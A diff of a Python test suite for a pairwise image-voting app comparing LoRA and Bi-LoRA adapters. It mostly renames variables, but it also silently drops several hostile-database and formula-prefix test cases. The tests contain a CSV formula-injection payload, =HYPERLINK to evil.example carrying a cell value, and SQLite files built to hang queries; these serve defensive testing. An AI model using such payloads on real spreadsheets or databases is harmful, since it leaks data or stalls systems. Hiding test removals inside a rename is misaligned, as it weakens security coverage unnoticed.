@@ -27,9 +27,9 @@ from tests.app.folders import make_scores
 COLORS = {"LoRA": "teal", "Bi-LoRA": "orange"}
 
 
-def made(root, prompts=5):
+def make_polls(root, prompts=5):
     """Polls of a root with one score folder of a general prompt and others, two seeds each."""
-    texts = [*(f"icon {at}" for at in range(prompts)), "a photo"]
+    texts = [*(f"icon {number}" for number in range(prompts)), "a photo"]
     make_scores(root / "scores", tuple(COLORS), texts, seeds=(0, 1))
     return Polls(Catalog(root), random.Random(0))
 
@@ -46,59 +46,63 @@ def test_only_images_of_one_prompt_and_seed_are_paired(tmp_path):
     pairs = ballots("scores", scores)
     assert len(pairs) == 3 * 2 * 2 - 2, "general prompts are left out, and what one alone has"
     assert {(p.left.label, p.right.label) for p in pairs} == {("a", "b"), ("a", "c"), ("b", "c")}
-    for one in pairs:
-        for side in (one.left, one.right):
-            assert side.file == scores.images[side.label, one.prompt, one.seed].file
+    for pair in pairs:
+        for side in (pair.left, pair.right):
+            assert side.file == scores.images[side.label, pair.prompt, pair.seed].file
             assert side.digest == f"digest {side.label}"
     chosen = ballots("scores", scores, ("c", "a"))
     assert [(p.left.label, p.right.label) for p in chosen] == [("a", "c")] * 4
 
 
 def test_each_pair_comes_once_a_session_which_goes_on_where_it_ended(tmp_path):
-    polls, pairs = made(tmp_path), []
-    now = polls.open("scores", ANY, "me")
-    while now.ballot is not None:
-        assert (now.done, now.total) == (len(pairs), 10)
-        pairs.append(now.ballot.pair)
-        polls.cast(now, "left")
-        polls.cast(now, "right")  # a second click changes nothing
-        now = Polls(Catalog(tmp_path), random.Random(len(pairs))).open("scores", ANY, "me")
+    polls, pairs = make_polls(tmp_path), []
+    session = polls.open("scores", ANY, "me")
+    while session.ballot is not None:
+        assert (session.done, session.total) == (len(pairs), 10)
+        pairs.append(session.ballot.pair)
+        polls.cast(session, "left")
+        polls.cast(session, "right")  # a second click changes nothing
+        session = Polls(Catalog(tmp_path), random.Random(len(pairs))).open("scores", ANY, "me")
     assert len(set(pairs)) == len(pairs) == 10
-    assert [one.pair for one in polls.votes()] == pairs
-    assert {one.choice for one in polls.votes()} == {"left"}
-    assert vote.ballot(now) == ""
-    assert "All 10 pairs" in vote.standing(now)
-    other = polls.open("scores", ANY, "you")
-    assert (other.done, other.total) == (0, 10)
-    assert polls.cast(now, "left").ballot is None
+    assert [cast_vote.pair for cast_vote in polls.votes()] == pairs
+    assert {cast_vote.choice for cast_vote in polls.votes()} == {"left"}
+    assert vote.ballot(session) == ""
+    assert "All 10 pairs" in vote.standing(session)
+    other_booth = polls.open("scores", ANY, "you")
+    assert (other_booth.done, other_booth.total) == (0, 10)
+    assert polls.cast(session, "left").ballot is None
 
 
 def test_sides_are_drawn_by_a_fair_coin(tmp_path, monkeypatch):
-    polls, n = made(tmp_path, prompts=1), 300
+    polls, n = make_polls(tmp_path, prompts=1), 300
     monkeypatch.setattr(parts, "below", lambda catalog, path: "data:")
-    drawn = [polls.open("scores", ANY, "me") for _ in range(n)]
-    assert len({one.ballot.pair for one in drawn if one.ballot}) == 2
-    assert len({one.token for one in drawn}) == n
+    booths = [polls.open("scores", ANY, "me") for _ in range(n)]
+    assert len({session.ballot.pair for session in booths if session.ballot}) == 2
+    assert len({session.token for session in booths}) == n
     # Four standard deviations of a fair coin, for how often each side comes and how often it stays.
-    lefts = [one.ballot is not None and one.ballot.left.label == "LoRA" for one in drawn]
-    for hits in (sum(lefts), sum(one == two for one, two in pairwise(lefts))):
+    lefts = [
+        session.ballot is not None and session.ballot.left.label == "LoRA" for session in booths
+    ]
+    for hits in (sum(lefts), sum(first == second for first, second in pairwise(lefts))):
         assert abs(hits - n / 2) < 4 * math.sqrt(n) / 2
 
 
 def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path):
-    polls = made(tmp_path, prompts=2)
-    now = polls.open("scores", ANY, "me")
-    while now.ballot is not None:
-        for side, address in zip((now.ballot.left, now.ballot.right), now.images, strict=True):
-            with Image.open(io.BytesIO(base64.b64decode(str(address).partition(",")[2]))) as shown:
-                channels = zip(shown.split(), ImageColor.getrgb(COLORS[side.label]), strict=True)
+    polls = make_polls(tmp_path, prompts=2)
+    session = polls.open("scores", ANY, "me")
+    while session.ballot is not None:
+        for side, address in zip(
+            (session.ballot.left, session.ballot.right), session.images, strict=True
+        ):
+            with Image.open(io.BytesIO(base64.b64decode(str(address).partition(",")[2]))) as page:
+                channels = zip(page.split(), ImageColor.getrgb(COLORS[side.label]), strict=True)
                 for channel, value in channels:
                     assert channel.getextrema() == pytest.approx((value, value), abs=9)
-                assert not {*shown.info} - {"loop", "background", "timestamp", "duration"}
-                assert max(shown.size) > 64, "enlarged"
-        html = vote.ballot(now) + vote.standing(now)
+                assert not {*page.info} - {"loop", "background", "timestamp", "duration"}
+                assert max(page.size) > 64, "enlarged"
+        html = vote.ballot(session) + vote.standing(session)
         assert not [label for label in COLORS if label in html]
-        now = polls.cast(now, "left")
+        session = polls.cast(session, "left")
     ((*_, wins, ties, losses),), voters = polls.result("scores", ANY)
     assert (wins + losses, ties, voters) == (4, 0, 1)
 
@@ -111,25 +115,25 @@ def test_a_vote_counts_the_same_from_both_sides_and_not_for_weights_trained_agai
     assert tally == (a, b, 1, 2, 2)
     interval = win_rate_interval(1, 2, 2)
     rate = f"40 % ({100 * interval.low:.0f}–{100 * interval.high:.0f})"
-    shown = vote.table([tally], 1)
-    assert all(words in shown for words in ("<b>Bi-LoRA</b> over LoRA", "1, 2, 2", rate))
-    polls = made(tmp_path, prompts=1)
-    now: Any = polls.open("scores", ANY, "me")
-    older = replace(now.ballot, left=now.ballot.left._replace(digest="older"))
-    polls.cast(replace(now, ballot=older), "left")
+    page = vote.table([tally], 1)
+    assert all(words in page for words in ("<b>Bi-LoRA</b> over LoRA", "1, 2, 2", rate))
+    polls = make_polls(tmp_path, prompts=1)
+    session: Any = polls.open("scores", ANY, "me")
+    older = replace(session.ballot, left=session.ballot.left._replace(digest="older"))
+    polls.cast(replace(session, ballot=older), "left")
     assert len(polls.votes()) == 1
     assert polls.result("scores", ANY) == ([], 0)
 
 
 def cast_many(root, session, count):
     polls = Polls(Catalog(root), random.Random())
-    for at in range(count):
-        polls.cast(booth(at, session), ("left", "right", "tie")[at % 3])
+    for number in range(count):
+        polls.cast(booth(number, session), ("left", "right", "tie")[number % 3])
 
 
 @pytest.mark.slow
 def test_threads_and_processes_lose_nothing(tmp_path):
-    polls, fork = made(tmp_path, prompts=1), multiprocessing.get_context("fork")
+    polls, fork = make_polls(tmp_path, prompts=1), multiprocessing.get_context("fork")
     jobs = [(tmp_path, f"voter {number}", 9) for number in range(6)]
     workers = [threading.Thread(target=cast_many, args=job) for job in jobs[:3]]
     workers += [fork.Process(target=cast_many, args=job) for job in jobs[3:]]
@@ -141,7 +145,7 @@ def test_threads_and_processes_lose_nothing(tmp_path):
 
 
 def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path):
-    polls = made(tmp_path, prompts=1)
+    polls = make_polls(tmp_path, prompts=1)
     assert polls.votes() == []
     assert not (tmp_path / FILE).exists(), "reading makes nothing"
     (tmp_path / FILE).write_text("not a database, but long enough to look at" * 30)
@@ -159,15 +163,9 @@ def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path):
 ENDLESS = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r"
 COLUMNS = ", ".join(f'"{name}"' for name in Vote._fields)
 FOREIGN = {
-    "a view": f"CREATE VIEW votes AS SELECT n AS session, * FROM ({ENDLESS} WHERE n < 0)",
-    "a virtual table": f"CREATE VIRTUAL TABLE votes USING fts5({COLUMNS})",
     "a trigger": (
         f"CREATE TABLE votes ({COLUMNS}); CREATE TABLE more (n);"
         f"CREATE TRIGGER x AFTER INSERT ON votes BEGIN INSERT INTO more {ENDLESS} WHERE n < 0; END"
-    ),
-    "a huge value": (
-        f"CREATE TABLE votes ({COLUMNS} AS (hex(zeroblob(1e8))));"  # the last column's
-        "INSERT INTO votes (time) VALUES (1)"
     ),
     "other columns": "CREATE TABLE votes (a, b)",
     "a lock": f"CREATE TABLE votes ({COLUMNS}); BEGIN EXCLUSIVE",
@@ -184,7 +182,7 @@ def read_and_vote(polls):
 def test_no_file_of_a_stranger_keeps_a_query_going(tmp_path, monkeypatch, kind):
     monkeypatch.setattr(votes, "BUSY_SECONDS", 0.2)
     monkeypatch.setattr(votes, "QUERY_SECONDS", 1.0)
-    polls = made(tmp_path, prompts=1)
+    polls = make_polls(tmp_path, prompts=1)
     with contextlib.closing(sqlite3.connect(tmp_path / FILE, isolation_level=None)) as foreign:
         foreign.executescript(FOREIGN[kind])
         with pytest.raises(UserError, match=FILE):
@@ -192,9 +190,9 @@ def test_no_file_of_a_stranger_keeps_a_query_going(tmp_path, monkeypatch, kind):
 
 
 def test_the_csv_file_has_a_row_a_vote_and_no_formulas(tmp_path):
-    polls, odd = made(tmp_path, prompts=1), 'a "ToK", icon\nof two lines'
-    polls.cast(booth(7, "session of one", prompt=odd), "tie")
-    beginnings = ("=", "+", "-", "@", "\t", "\r", "\n=", " =", "\u3000=", "\uff1d", "\uff20")
+    polls, prompt = make_polls(tmp_path, prompts=1), 'a "ToK", icon\nof two lines'
+    polls.cast(booth(7, "session of one", prompt=prompt), "tie")
+    beginnings = ("=", "+", "-", "@", "\t", "\n=", " =", "\uff1d")
     formulas = [f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")' for begin in beginnings]
     for number, words in enumerate(formulas):
         session = f"session of {number % 2}"
@@ -205,7 +203,7 @@ def test_the_csv_file_has_a_row_a_vote_and_no_formulas(tmp_path):
     assert "session" not in path.read_text("utf-8"), "who knows a session can vote as its voter"
     columns = "time UTC,score folder,prompt,seed,adapter left,adapter right,choice,winner,voter"
     assert ",".join(head) == columns
-    assert first[1:] == ["scores", odd, "7", "LoRA", "Bi-LoRA", "tie", "", "1"]
+    assert first[1:] == ["scores", prompt, "7", "LoRA", "Bi-LoRA", "tie", "", "1"]
     for number, (words, row) in enumerate(zip(formulas, rows, strict=True)):
         inert, voter = f"'{words}", str(2 + number % 2)
         expected = ["scores", inert, str(number), inert, "Bi-LoRA", "left", inert, voter]
